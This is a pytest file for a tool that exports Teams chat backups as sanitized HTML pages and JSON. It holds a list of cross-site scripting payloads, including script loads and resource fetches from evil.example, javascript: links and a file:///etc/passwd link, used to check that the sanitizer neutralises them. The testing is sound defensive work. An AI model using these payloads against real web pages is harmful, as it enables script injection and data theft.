"""A conversation on one page: in order, complete, and harmless whatever somebody wrote in it."""

from __future__ import annotations

import base64
import json
import re
import tracemalloc
from collections.abc import Iterator
from html.parser import HTMLParser
from typing import Any

import pytest

from base.errors import NotFound
from base.item import StoredItem, StoredPart
from formats import COLLECTIONS
from formats.collection import ItemRow
from tests.formats.items import part

PNG = b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 40
HOSTED = "https://graph.microsoft.com/v1.0/chats/c/messages/{}/hostedContents/{}/$value"


class Lost(NotFound):
    code = "lost"


class Held:
    """Items as the engine hands them over, and how many were held at once."""

    left_out = (Lost,)

    def __init__(self, *items: StoredItem) -> None:
        self._items = {one.id: one for one in items}

    def rows(self) -> Iterator[ItemRow]:
        return (ItemRow(one.id, one.name, one.row) for one in self._items.values())

    def __iter__(self) -> Iterator[StoredItem]:
        return iter(self._items.values())

    def get(self, item_id: str) -> StoredItem:
        return self._items[item_id]


def message(number: int, html: str = "", *parts: StoredPart, **raw: Any) -> StoredItem:
    """A message of the given minute."""
    created = f"2026-03-01T10:{number:02}:00.5Z"
    whole = {
        "id": str(number),
        "replyToId": None,
        "messageType": "message",
        "createdDateTime": created,
        "from": {"application": None, "user": {"id": "u1", "displayName": "Ada"}},
        "body": {"contentType": "html", "content": html},
        "attachments": [],
        "mentions": [],
        "reactions": [],
    } | raw
    row = {"created": created, "thread": whole["replyToId"] or str(number)}
    return StoredItem(str(number), "talk", "chat-message", "", row, whole, parts)


def files(*items: StoredItem, name: str = "Budget", **raw: Any) -> tuple[str, dict[str, Any]]:
    """The page and the JSON of a conversation."""
    folder = StoredItem("talk", "root", "folder", name, {}, raw, ())
    page, data = COLLECTIONS["chat-message"](folder, Held(*items))
    return (
        b"".join(page.blocks()).decode(),
        json.loads(b"".join(data.blocks())),
    )


def words(page: str) -> str:
    return re.sub(r"\s+", " ", re.sub(r"<[^>]*>", " ", page.split("<main>")[1])).strip()


def test_threads_stand_in_the_order_they_began_with_replies_under_them() -> None:
    page, data = files(
        message(5, "fifth"),
        message(4, "answer to two", replyToId="2"),
        message(2, "second"),
        message(3, "third"),
        message(6, "to one", replyToId="1"),
        message(1, "first"),
    )
    order = re.findall(r"first|second|third|fifth|answer to two|to one", words(page))
    assert order == ["first", "to one", "second", "answer to two", "third", "fifth"]
    assert page.count('<article class="reply">') == 2
    assert page.count("<section>") == page.count("</section>") == 4
    assert [one["raw"]["id"] for one in data["messages"]] == list("123456")


def test_the_json_holds_every_message_as_it_is() -> None:
    odd = message(1, "x", unknownKey={"deep": [1, None, "\ud800"]}, eventDetail=None)
    _, data = files(odd, id="19:abc", topic=None)
    assert data["messages"] == [{"id": "1", "raw": odd.raw}]
    assert data["conversation"] == {"id": "19:abc", "topic": None}
    assert (data["format"], data["name"]) == ("holdfast-conversation/1", "Budget")


def test_the_same_messages_give_the_same_bytes_and_the_file_is_as_old_as_the_newest() -> None:
    folder = StoredItem("talk", "root", "folder", "Budget", {}, {}, ())
    page, _ = COLLECTIONS["chat-message"](folder, Held(message(1, "a"), message(2, "b")))
    assert b"".join(page.blocks()) == b"".join(page.blocks())
    assert page.modified is not None
    assert page.modified.minute == 2


def test_edits_tombstones_reactions_and_mentions_are_told() -> None:
    page, _ = files(
        message(
            1,
            '<p>Hi <at id="0">Grace</at> <emoji id="smile" alt="🙂"></emoji></p>',
            lastEditedDateTime="2026-03-02T08:00:00Z",
            importance="urgent",
            subject="Numbers <3",
            reactions=[
                {"reactionType": "like"},
                {"reactionType": "👍"},
                {"reactionType": "custom", "displayName": "party"},
            ],
        ),
        message(
            2,
            "",
            deletedDateTime="2026-03-03T09:00:00Z",
            lastEditedDateTime="2026-03-03T08:00:00Z",
        ),
    )
    said = words(page)
    assert "Hi Grace" in said
    assert "<at>Grace</at>" in page
    assert 'emoji alt="🙂"' in page
    assert "edited 2026-03-02 08:00 UTC" in said
    assert "👍 2" in said
    assert "party 1" in said
    assert "urgent" in said
    assert "Numbers &lt;3" in said
    assert "This message was deleted 2026-03-03 09:00 UTC" in said
    assert said.count("edited") == 1
    assert 'datetime="2026-03-01T10:01:00Z"' in page
    assert 'title="createdDateTime 2026-03-01T10:01:00.5Z"' in page


def test_events_of_teams_take_a_line() -> None:
    kind = "#microsoft.graph.{}EventMessageDetail"
    initiator = {"user": {"displayName": "Ada"}}
    people = [{"displayName": "Grace"}, {"displayName": None, "id": "u9"}]
    events = [
        {"@odata.type": kind.format("membersAdded"), "members": people, "initiator": initiator},
        {"@odata.type": kind.format("chatRenamed"), "chatDisplayName": "Q3", "initiator": None},
        {"@odata.type": kind.format("somethingNew"), "count": 5},
        {},
    ]
    page, _ = files(
        *(
            message(number, messageType="systemEventMessage", eventDetail=event)
            for number, event in enumerate(events)
        )
    )
    said = words(page)
    assert "Members added by Ada: Grace, u9" in said
    assert "Chat renamed: Q3" in said
    assert "Something new" in said
    assert "System message" in said
    assert page.count('<p class="event">') == len(events)


def test_attachments_are_links_to_https_only() -> None:
    card = {"body": [{"type": "TextBlock", "text": "Approve?"}], "actions": [{"title": "Yes"}]}
    quote = {"messagePreview": "what I said", "messageSender": {"user": {"displayName": "G"}}}
    forwarded = {
        "originalMessageContent": "<p>passed on &lt;b&gt;</p><script>x</script>",
        "originalMessageSender": {"user": {"displayName": "H"}},
    }
    kinds = "application/vnd.microsoft.card.adaptive"
    page, _ = files(
        message(
            1,
            '<attachment id="a"></attachment>see',
            attachments=[
                {
                    "contentType": "reference",
                    "name": 'Plan "1".docx',
                    "contentUrl": "https://contoso.sharepoint.com/x?a=1&b=2",
                },
                {"contentType": "reference", "name": "bad.js", "contentUrl": "javascript:alert(1)"},
                {"contentType": kinds, "content": json.dumps(card)},
                {"contentType": "messageReference", "content": json.dumps(quote)},
                {"contentType": "forwardedMessageReference", "content": json.dumps(forwarded)},
                {"contentType": kinds, "content": "{not json"},
                {"contentType": None, "name": None},
                "what is this",
            ],
        )
    )
    links = re.findall(r'<a href="([^"]*)"([^>]*)>([^<]*)</a>', page)
    assert links == [
        (
            "https://contoso.sharepoint.com/x?a=1&amp;b=2",
            ' target="_blank" rel="noopener noreferrer"',
            "Plan &quot;1&quot;.docx",
        )
    ]
    said = words(page)
    assert "bad.js" in said
    assert "javascript" not in page
    assert "Card (adaptive): Approve? · Yes" in said
    assert "Quoted message of G: what I said" in said
    assert "Quoted message of H: passed on &lt;b&gt;" in said


def pictures(page: str) -> list[str]:
    return re.findall(r'<img[^>]* src="(data:[^"]*)"', page)


def test_pictures_are_in_the_page_and_nothing_else_is() -> None:
    picture = {"id": "aWQ9+/=", "contentType": "image/svg+xml"}
    svg = {"id": "svg", "contentType": "image/png"}
    shown = "".join(
        f'<img alt="x" src="{HOSTED.format(1, one)}" style="width:1px">'
        for one in ("aWQ9%2B%2F%3D", "svg", "unknown")
    )
    page, _ = files(
        message(
            1,
            f"{shown}<img src='hosted:0'><p>src=\"hosted:0\"</p>",
            part("hosted", PNG, picture, step=1000),
            part("hosted", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", svg),
        )
    )

    assert pictures(page) == [f"data:image/png;base64,{base64.b64encode(PNG).decode()}", "data:,"]
    assert "hosted:0" in words(page), "what is text stays text"
    assert "graph.microsoft.com" not in page.replace(HOSTED, "")
    assert "<svg" not in page


def test_a_picture_whose_bytes_are_lost_costs_itself() -> None:
    def lost() -> Iterator[bytes]:
        yield PNG[:1000]
        raise Lost("")

    def gone() -> Iterator[bytes]:
        raise Lost("")
        yield b""

    page, _ = files(
        message(
            1,
            "".join(f'<img src="{HOSTED.format(1, one)}">' for one in "ab") + "after",
            StoredPart("hosted", 5000, {"id": "a"}, lost),
            StoredPart("hosted", 5000, {"id": "b"}, gone),
        ),
        message(2, "next"),
    )
    assert len(pictures(page)) == 2
    assert pictures(page)[1] == "data:,"
    assert "after" in words(page)
    assert "next" in words(page)


def test_what_a_message_lacks_stands_under_it() -> None:
    item = message(1, "hello")
    lacking = StoredItem(
        item.id, "talk", item.kind, "", item.row, item.raw, (), ("hosted:x: no-content",)
    )
    unread = StoredItem("2", "talk", item.kind, "", {}, {}, (), ("item: vault-damaged",))
    page, data = files(lacking, unread)
    assert "Not in the backup: hosted:x: no-content" in words(page)
    assert "This message could not be read: item: vault-damaged" in words(page)
    assert [one["missing"] for one in data["messages"]] == [
        ["item: vault-damaged"],
        ["hosted:x: no-content"],
    ]


def test_a_reply_without_its_message_is_shown_and_says_so() -> None:
    page, _ = files(message(4, "lonely", replyToId="1"))
    assert "Answers a message that is not on this page." in words(page)


def test_messages_without_anything_do_not_break_the_page() -> None:
    empty: dict[str, Any] = {"id": "1", "body": None, "from": None, "attachments": None}
    odd = {"id": "2", "body": "text", "from": {"user": "x"}, "createdDateTime": 5, "reactions": {}}
    page, _ = files(
        StoredItem("1", "talk", "chat-message", "", {}, empty, ()),
        StoredItem("2", "talk", "chat-message", "", {}, odd, ()),
    )
    assert words(page).count("Unknown sender") == 2
    assert "Without a date" in words(page)


def test_plain_text_is_shown_as_it_was_written() -> None:
    page, _ = files(message(1, body={"contentType": "text", "content": "a <b>\n  c"}))
    assert "a &lt;b&gt;\n  c</div>" in page


# --- Whatever somebody wrote ---

VECTORS = """
<script>alert(1)</script>
<SCRIPT SRC=https://evil.example/x.js></SCRIPT>
<img src=x onerror=alert(1)>
<img src="https://evil.example/pixel.png">
<img src=javascript:alert(1)>
<img src="data:image/svg+xml,<svg onload=alert(1)>">
<img srcset="https://evil.example/1.png 1x">
<svg onload=alert(1)></svg>
<svg><script>alert(1)</script></svg>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>
<a href="javascript:alert(1)">x</a>
<a href=" jAvAsCrIpT:alert(1)">x</a>
<a href="java&#10;script:alert(1)">x</a>
<a href="&#106;avascript:alert(1)">x</a>
<a href="\x01javascript:alert(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="file:///etc/passwd">x</a>
<a href="//evil.example/x">x</a>
<a href="https://good.example" onclick="alert(1)">x</a>
<a href="https://good.example" target="_top" rel="opener">x</a>
<iframe src="https://evil.example"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="https://evil.example/x.swf"></object>
<embed src="https://evil.example/x.swf">
<link rel=stylesheet href="https://evil.example/x.css">
<style>@import "https://evil.example/x.css";</style>
<style>body{background:url(https://evil.example/x.png)}</style>
<div style="background:url(https://evil.example/x.png)">x</div>
<div style="position:fixed;inset:0">over everything</div>
<meta http-equiv="refresh" content="0;url=https://evil.example">
<base href="https://evil.example/">
<form action="https://evil.example"><input name=p><button formaction="javascript:alert(1)">x</button></form>
<video src="https://evil.example/x.mp4" autoplay onplay=alert(1)></video>
<audio src="https://evil.example/x.mp3" autoplay></audio>
<body onload=alert(1)>
<input autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)>x</details>
<marquee onstart=alert(1)>x</marquee>
<table background="https://evil.example/x.png"><tr><td background="javascript:alert(1)">x</td></tr></table>
</div></article></section></main></body></html><script>alert(1)</script>
<!--><script>alert(1)</script>-->
<![CDATA[<script>alert(1)</script>]]>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<textarea><img src=x onerror=alert(1)></textarea>
<p title="&quot;><script>alert(1)</script>">x</p>
<img alt="&quot; onerror=alert(1) x=&quot;" src="x">
<img src=`x`onerror=alert(1)>
<template><img src=x onerror=alert(1)></template>
<a href="https://x.example" ping="https://evil.example">x</a>
<b class="event" id="main">x</b>
<img alt='<img src="hosted:0"' src="hosted:0">
""".strip().split("\n")  # fmt: skip  # noqa: E501

MAY = {
    "html", "head", "meta", "title", "style", "body", "header", "main", "section", "article",
    "h1", "h2", "h3", "bdi", "p", "div", "time", "small", "ul", "li", "a", "b", "img", "table",
    "tbody", "tr", "td", "em", "span",
}  # fmt: skip
MAY_HAVE = {
    "lang", "charset", "http-equiv", "name", "content", "class", "dir", "datetime", "title", "href",
    "rel", "target", "alt", "src", "width", "height",
}  # fmt: skip


class Seen(HTMLParser):
    """Elements and attributes of a page as a parser meets them."""

    def __init__(self) -> None:
        super().__init__()
        self.open: list[str] = []
        self.elements: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))
        if tag not in ("meta", "img", "br", "hr"):
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag, "an element is closed that is not the innermost"


def insist_on_harmless(page: str) -> None:
    seen = Seen()
    seen.feed(page)
    assert seen.open == []
    for tag, attributes in seen.elements:
        assert tag in MAY, tag
        assert set(attributes) <= MAY_HAVE, (tag, attributes)
        assert (attributes.get("src") or "data:").startswith("data:")
        assert (attributes.get("href") or "https://").startswith("https://")
        if tag == "a":
            assert attributes.get("rel") == "noopener noreferrer"
        if tag == "meta" and attributes.get("http-equiv"):
            assert attributes["http-equiv"] == "Content-Security-Policy"
    assert [tag for tag, _ in seen.elements].count("style") == 1


@pytest.mark.parametrize("vector", VECTORS)
def test_nothing_of_it_runs_or_fetches_wherever_it_stands(vector: str) -> None:
    everywhere = {
        "subject": vector,
        "from": {"user": {"displayName": vector}},
        "attachments": [
            {"contentType": "reference", "name": vector, "contentUrl": f"https://x/{vector}"},
            {"contentType": "application/vnd.microsoft.card.x", "content": f'{{"text":"{vector}"'},
        ],
        "reactions": [{"reactionType": vector}],
        "importance": vector,
        "lastEditedDateTime": vector,
        "createdDateTime": vector,
    }
    event = {"@odata.type": vector, "chatDisplayName": vector, "initiator": everywhere["from"]}
    page, _ = files(
        message(1, vector),
        message(2, "plain", **everywhere),
        message(3, body={"contentType": vector, "content": vector}),
        message(4, eventDetail=event),
        message(5, f"unclosed <div><b><table>{vector}"),
        name=vector,
        description=vector,
        chatType=vector,
    )
    insist_on_harmless(page)
    assert "evil.example" not in "".join(
        str(value) for _, attributes in _elements(page) for value in attributes.values()
        if not str(value).startswith(("https://x/", "createdDateTime ", "lastEdited"))
    )  # fmt: skip


def _elements(page: str) -> list[tuple[str, dict[str, str | None]]]:
    seen = Seen()
    seen.feed(page)
    return seen.elements


def test_the_page_forbids_what_it_does_not_need() -> None:
    page, _ = files(message(1, "x"))
    assert (
        '<meta http-equiv="Content-Security-Policy" content="default-src &#x27;none&#x27;;'
        " img-src data:; style-src &#x27;unsafe-inline&#x27;; base-uri &#x27;none&#x27;;"
        ' form-action &#x27;none&#x27;">'
    ) in page
    assert "script" not in page.split("<style>")[1].split("</style>")[0]


def test_a_body_nested_without_end_is_cut_and_says_so() -> None:
    page, _ = files(message(1, "<div>" * 60_000 + "deep"), message(2, "after"))
    assert "The message is longer; the JSON beside this page has all of it." in words(page)
    assert "after" in words(page)


def test_a_conversation_of_many_messages_is_never_held() -> None:

    class Many(Held):
        def rows(self) -> Iterator[ItemRow]:
            for number in range(4000):
                yield ItemRow(str(number), "", {"created": "2026-03-01T10:00:00Z", "thread": "0"})

        def get(self, item_id: str) -> StoredItem:
            return message(1, "x" * 50_000)

    folder = StoredItem("talk", "root", "folder", "Budget", {}, {}, ())
    tracemalloc.start()
    for file in COLLECTIONS["chat-message"](folder, Many()):
        assert sum(len(block) for block in file.blocks()) > 4000 * 50_000
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert peak < 6 * 1024 * 1024
